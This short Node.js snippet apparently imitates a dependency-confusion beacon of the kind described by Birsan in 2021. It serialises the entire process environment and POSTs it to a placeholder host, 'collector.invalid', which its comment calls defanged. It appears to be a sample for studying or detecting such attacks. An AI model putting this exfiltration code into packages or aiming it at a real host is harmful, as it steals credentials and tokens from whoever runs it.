// Mimics the dependency-confusion beacons (Birsan 2021 and copycats): the whole environment is
// serialised and posted. Defanged: .invalid host.
const https = require('https');
const body = JSON.stringify(process.env);
const req = https.request({ hostname: 'collector.invalid', method: 'POST', path: '/env' });
req.end(body);
